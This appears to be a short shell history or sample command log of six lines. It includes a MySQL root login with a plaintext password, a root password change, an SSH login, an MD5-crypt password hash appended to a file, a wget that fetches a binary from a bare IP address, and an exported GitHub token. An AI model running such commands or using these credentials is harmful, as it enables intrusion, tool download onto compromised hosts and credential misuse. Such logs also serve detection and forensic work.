mysql -uroot -pNw8Adfu8 cam
passwd root
ssh admin@203.0.113.201
echo $1$8nFndiSK$6jnfiJPX5dCL2UjdfY3Nc3 >> x
wget http://203.0.113.202:8000/gdb
export GITHUB_TOKEN=ghp_THk8hqNLMCE1c84EyKcBhyv1YHhgUvTZOteS
